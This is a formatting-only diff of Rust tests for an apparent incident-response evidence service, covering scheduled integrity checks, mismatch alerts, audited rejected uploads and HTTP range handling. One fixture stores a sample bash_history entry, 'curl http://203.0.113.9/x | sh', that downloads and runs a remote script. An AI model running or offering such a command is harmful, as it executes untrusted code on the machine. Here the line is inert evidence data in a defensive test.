@@ -87,29 +87,50 @@ async fn the_schedule_verifies_what_is_due_and_alerts_the_commander_on_a_mismatc
     };
     let a = f
         .cordon
-        .add_evidence(&f.admin, &r, new("auth.log"), body(b"Nov 27 sshd[1]: Accepted password for root"))
+        .add_evidence(
+            &f.admin,
+            &r,
+            new("auth.log"),
+            body(b"Nov 27 sshd[1]: Accepted password for root"),
+        )
         .await
         .unwrap();
     f.clock.advance(SignedDuration::from_hours(1));
     let b = f
         .cordon
-        .add_evidence(&f.admin, &r, new("bash_history"), body(b"curl http://203.0.113.9/x | sh"))
+        .add_evidence(
+            &f.admin,
+            &r,
+            new("bash_history"),
+            body(b"curl http://203.0.113.9/x | sh"),
+        )
         .await
         .unwrap();
     let day = SignedDuration::from_hours(24);
 
     // Nothing is a day old yet.
     let now = f.clock.now();
-    assert_eq!(f.cordon.verify_due_evidence(now, day).await.unwrap(), SweepReport::default());
+    assert_eq!(
+        f.cordon.verify_due_evidence(now, day).await.unwrap(),
+        SweepReport::default()
+    );
 
     // A day after the first upload, only the first is due.
     f.clock.advance(SignedDuration::from_hours(23));
     let now = f.clock.now();
     let report = f.cordon.verify_due_evidence(now, day).await.unwrap();
     assert_eq!(report.verified, 1);
-    let custody = f.cordon.evidence(&f.admin, &r, &a.item.id.to_string()).await.unwrap().custody;
+    let custody = f
+        .cordon
+        .evidence(&f.admin, &r, &a.item.id.to_string())
+        .await
+        .unwrap()
+        .custody;
     let last = custody.last().unwrap();
-    assert_eq!((last.kind, last.actor.as_str(), last.at), (CustodyKind::Verification, SYSTEM_ACTOR, now));
+    assert_eq!(
+        (last.kind, last.actor.as_str(), last.at),
+        (CustodyKind::Verification, SYSTEM_ACTOR, now)
+    );
     assert!(last.details.contains(r#""ok":true"#), "{}", last.details);
     // Run again at the same time: nothing is due.
     assert_eq!(f.cordon.verify_due_evidence(now, day).await.unwrap().verified, 0);
@@ -142,7 +163,11 @@ async fn the_schedule_verifies_what_is_due_and_alerts_the_commander_on_a_mismatc
     assert_eq!(alert.item_id, b.item.id);
     assert_eq!(alert.codename, inc.incident.codename.to_string());
     assert_eq!(alert.commanders, ["admin"]);
-    assert!(alert.mismatches.contains(&"sha256_vs_key".to_owned()), "{:?}", alert.mismatches);
+    assert!(
+        alert.mismatches.contains(&"sha256_vs_key".to_owned()),
+        "{:?}",
+        alert.mismatches
+    );
     let audit = f.cordon.audit_entries(&f.admin, 0, 10_000).await.unwrap();
     let entry = audit.iter().find(|e| e.record.seq == alert.audit_seq).unwrap();
     assert_eq!(entry.record.action, "evidence.mismatch");
@@ -173,14 +198,31 @@ async fn rejected_uploads_keep_nothing_and_are_audited() {
         expected_sha256: Some("00".repeat(32)),
         ..NewEvidence::default()
     };
-    let err = f.cordon.add_evidence(&f.admin, &r, wrong, body(b"abc")).await.unwrap_err();
-    assert!(matches!(err, ServiceError::Invalid { field: "expected_sha256", .. }), "{err:?}");
+    let err = f
+        .cordon
+        .add_evidence(&f.admin, &r, wrong, body(b"abc"))
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(
+            err,
+            ServiceError::Invalid {
+                field: "expected_sha256",
+                ..
+            }
+        ),
+        "{err:?}"
+    );
     let short = NewEvidence {
         name: "x".into(),
         declared_len: Some(10),
         ..NewEvidence::default()
     };
-    let err = f.cordon.add_evidence(&f.admin, &r, short, body(b"abc")).await.unwrap_err();
+    let err = f
+        .cordon
+        .add_evidence(&f.admin, &r, short, body(b"abc"))
+        .await
+        .unwrap_err();
     assert!(matches!(err, ServiceError::Invalid { field: "body", .. }), "{err:?}");
     assert!(f.cordon.evidence_list(&f.admin, &r).await.unwrap().is_empty());
     let actions: Vec<String> = f
@@ -192,7 +234,9 @@ async fn rejected_uploads_keep_nothing_and_are_audited() {
         .map(|e| e.record.action)
         .collect();
     assert_eq!(actions.iter().filter(|a| *a == "evidence.add.rejected").count(), 2);
-    let incoming = std::fs::read_dir(f.dir.path().join("evidence/incoming")).unwrap().count();
+    let incoming = std::fs::read_dir(f.dir.path().join("evidence/incoming"))
+        .unwrap()
+        .count();
     assert_eq!(incoming, 0);
 }
 
@@ -210,7 +254,10 @@ fn ranges_resolve_like_http() {
         RangeRequest::Suffix(0),
         RangeRequest::FromTo(5, 4),
     ] {
-        assert!(matches!(r(bad, 100), Err(ServiceError::RangeNotSatisfiable { size: 100 })));
+        assert!(matches!(
+            r(bad, 100),
+            Err(ServiceError::RangeNotSatisfiable { size: 100 })
+        ));
     }
     assert!(r(RangeRequest::Suffix(1), 0).is_err());
 }
